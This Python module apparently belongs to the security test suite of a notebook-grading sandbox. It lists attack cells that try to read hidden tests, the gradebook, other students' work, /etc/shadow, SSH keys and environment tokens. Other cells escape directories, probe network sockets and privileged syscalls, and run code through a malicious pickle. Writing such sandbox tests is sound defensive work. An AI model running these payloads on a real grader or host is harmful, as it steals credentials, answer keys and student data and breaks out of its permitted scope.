"""Attacks that look for tests, marks, keys and other students' work, and print what they find.

They end with "looked", so that a test knows that they did.
"""

from tests.attacks.attack import TOP, Attack, reads

PRINT_FILES = f"""\
import os
from pathlib import Path
def show(path):
    try:
        print(path, Path(path).read_bytes()[:20_000])
    except OSError as error:
        print(path, error)
top = Path("{TOP}")
"""

QUOTE_CELLS = """\
import IPython, linecache
shell = get_ipython()
print(In, Out, _ih, _oh, sep="\\n")
print(*shell.history_manager.input_hist_raw, sep="\\n")
for name, (size, when, lines, *_) in list(linecache.cache.items()):
    if "ipython" in name or "ipykernel" in name:
        print(*lines)
print(IPython.__version__, "looked")"""

SEARCH_MEMORY = """\
import gc, sys
words = "canary", "HIDDEN", "assert ", "aspect("
seen, kept = set(), [*gc.get_objects(), *map(vars, filter(None, list(sys.modules.values())))]
for thing in kept:
    for part in gc.get_referents(thing):
        if isinstance(part, str | bytes) and id(part) not in seen:
            seen.add(id(part))
            text = part if isinstance(part, str) else part.decode("latin-1")
            if any(word in text for word in words) and "words = " not in text:
                print(text[:2000])
print(len(seen) > 1000, "looked")"""

SEARCH_FRAMES = """\
import sys, threading
for frame in sys._current_frames().values():
    while frame:
        print(frame.f_code.co_filename, frame.f_code.co_name, frame.f_locals)
        frame = frame.f_back
print("looked")"""

WATCH_CALLS = """\
import sys
seen = []
def watch(frame, event, value):
    if len(seen) < 300:
        seen.append((frame.f_code.co_name, frame.f_code.co_filename, list(frame.f_locals)))
sys.setprofile(watch)"""

SECRETS = {
    "quotes-cells": reads(QUOTE_CELLS, table=17, stock="shows the hidden tests", shows="looked"),
    "searches-memory": reads(SEARCH_MEMORY, table=17, stock="shows all tests", shows="looked"),
    "searches-frames": reads(SEARCH_FRAMES, table=17, stock="shows all tests", shows="looked"),
    "watches-calls": Attack(
        17,
        "shows the hidden tests",
        cells={"mean": WATCH_CALLS, "hidden_mean": "sys.setprofile(None)\nprint(seen, 'looked')"},
        shows="looked",
    ),
    "quotes-the-test-in-an-error": Attack(
        17,
        "the hidden test in the feedback",
        {
            "mean": "import traceback\ndef mean(values):\n"
            "    raise ValueError(''.join(traceback.format_stack()) + str(In))"
        },
        points={"check_mean": 0.0, "hidden_mean": 0.0},
    ),
    "reads-source-cells": reads(
        PRINT_FILES + "import sqlite3\ntry:\n"
        "    base = sqlite3.connect(f'file:{top}/course/gradebook.db?mode=ro', uri=True)\n"
        "    print(*base.execute('select source from source_cell'))\n"
        "    print(*base.execute('select * from student'))\n"
        "except sqlite3.Error as error:\n    print(error)\n"
        "show(top / 'course' / 'gradebook.db')\nprint('looked')",
        table=18,
        stock="shows all tests",
        shows="looked",
    ),
    "reads-files": reads(
        PRINT_FILES + "for name in ('course/source/lab/lab.ipynb', 'course/source/notes.txt',\n"
        "    'course/nbgrader_config.py', 'course/submitted/bob/lab/lab.ipynb',\n"
        "    'course/autograded/bob/lab/lab.ipynb', 'course/release/lab/lab.ipynb',\n"
        "    'course/feedback/bob/lab/lab.html', 'teacher/marks.txt'):\n"
        "    show(top / name)\n"
        "for name in ('/etc/passwd', '/etc/shadow', '/root', '~/.ssh', '~/.netrc', '~/.bashrc'):\n"
        "    show(os.path.expanduser(name))\nprint('looked')",
        table=18,
        stock="reads them",
        shows="looked",
    ),
    "reads-through-proc": reads(
        PRINT_FILES + "for who in ('self', 'thread-self', *range(1, 40)):\n"
        "    for name in ('environ', 'cmdline', 'maps', 'mem', 'fd', 'root', 'cwd', 'status'):\n"
        "        show(f'/proc/{who}/{name}')\n"
        "    show(f'/proc/{who}/root{top}/teacher/marks.txt')\n"
        "    show(f'/proc/{who}/cwd/../teacher/marks.txt')\nprint('looked')",
        table=24,
        stock="reads them",
        shows="looked",
    ),
    "climbs-out": reads(
        PRINT_FILES + "up = '../' * 40\n"
        "show(f'{up}{top}/teacher/marks.txt')\nos.symlink(top, 'way')\n"
        "show('way/teacher/marks.txt')\n"
        "for make in (os.link, os.rename):\n"
        "    try: make(top / 'teacher' / 'marks.txt', 'marks.txt')\n"
        "    except OSError as error: print(error)\n"
        "print(os.listdir('/'), [d for d in ('/tmp', '/home', '/root', '/var', '/srv', '/mnt')\n"
        "    if os.path.isdir(d) and os.listdir(d)], 'looked')",
        shows="looked",
    ),
    "reads-the-environment": reads(
        "import os, subprocess\nprint(dict(os.environ))\n"
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "libc.getenv.restype = ctypes.c_char_p\n"
        "print([libc.getenv(n) for n in (b'LAB_TOKEN', b'COURSE_SECRET', b'COURSE_DRAW_KEY')])\n"
        "try: print(subprocess.run(['env'], capture_output=True))\n"
        "except OSError as error: print(error)\nprint('looked')",
        table=24,
        stock="reads it",
        shows="looked",
    ),
    "uses-the-network": reads(
        """\
import socket
def attempt(*address, kind=socket.AF_INET, way=socket.SOCK_STREAM):
    try:
        s = socket.socket(kind, way)
        s.connect(address[0])
        s.send(b"attack")
        print("sent", address)
    except OSError as error:
        print(error)
attempt(("127.0.0.1", 8888))
attempt(("192.0.2.1", 80))
attempt(("192.0.2.1", 53), way=socket.SOCK_DGRAM)
attempt(("::1", 80), kind=socket.AF_INET6)
attempt("\\0abstract", kind=socket.AF_UNIX)
attempt("/run/dbus/system_bus_socket", kind=socket.AF_UNIX)
for name in ("example.org", "localhost"):
    try: print("sent", socket.getaddrinfo(name, 80)[0][4] and socket.create_connection((name, 80)))
    except OSError as error: print(error)
print("looked")""",
        table=25,
        stock="reaches it",
        shows="looked",
    ),
    "looks-for-other-kernels": reads(
        PRINT_FILES + "from glob import glob\n"
        "for place in ('~/.local/share/jupyter/runtime', '/tmp', '/run/user', '/dev/shm'):\n"
        "    for path in glob(os.path.expanduser(place) + '/**', recursive=True)[:200]:\n"
        "        show(path)\nprint('looked')",
        table=26,
        stock="the files are readable",
        shows="looked",
    ),
    "looks-for-descriptors": reads(
        "import fcntl, os, stat\n"
        "for fd in range(3, 256):\n"
        "    try: mode = os.fstat(fd).st_mode\n"
        "    except OSError: continue\n"
        "    print(fd, stat.filemode(mode))\n"
        "    try: print(os.pread(fd, 1000, 0))\n"
        "    except OSError as error: print(error)\nprint('looked')",
        shows="looked",
    ),
    "asks-the-kernel": reads(
        """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    result = getattr(libc, name)(*arguments)
    print(name, result, os.strerror(ctypes.get_errno()) if result < 0 else "DONE")
call("ptrace", 16, 1, 0, 0)
call("unshare", 0x10000000)
call("memfd_create", b"attack", 0)
call("shmget", 5, 1 << 20, 0o1666)
call("syscall", 250, 0, -3, 0, 0, 0)  # keyctl
call("syscall", 434, 1, 0)  # pidfd_open
call("syscall", 425, 8, 0)  # io_uring_setup
call("syscall", 321, 0, 0, 0)  # bpf
call("process_vm_readv", 1, 0, 0, 0, 0, 0)
call("mount", b"/", b"/scratch", b"none", 4096, 0)
call("open_by_handle_at", 3, 0, 0)
print("looked")""",
        shows="looked",
    ),
    "imports-the-references": reads(
        """\
import importlib, inspect, pkgutil, course
for name in ("course.exercises.catalogue", "course.exercises.many_inputs", "tests.attacks.lab",
             "course.exercises.many_outputs", "course.exercises.one_channel"):
    try: print(inspect.getsource(importlib.import_module(name))[:3000], "FOUND")
    except (ImportError, OSError) as error: print(error)
print("looked")""",
        shows="looked",
    ),
    "loads-a-pickle": Attack(
        57,
        "runs where it is loaded",
        cells={
            "hidden_mean": "import torch\n"
            "torch.load('model.pt', weights_only=False)\nprint('looked')"
        },
        beside=lambda folder: (folder / "model.pt").write_bytes(PICKLE),
        shows="looked",
    ),
    "prints-what-it-is-called-with": Attack(
        58,
        "the hidden test in the feedback",
        {
            "mean": "seen = []\ndef mean(values):\n    seen.append(list(values))\n"
            "    return sum(values) / len(values)"
        },
        {"hidden_mean": "print(seen, 'looked')"},
        shows="looked",
    ),
}

# exec("import os; ...") as the classic of `__reduce__`, in protocol 0.
PICKLE = (
    b"cbuiltins\nexec\n(Vprint(open('/etc/passwd').read()) "
    b"if __import__('os').path.exists('/etc/passwd') else print('no file')\ntR."
)
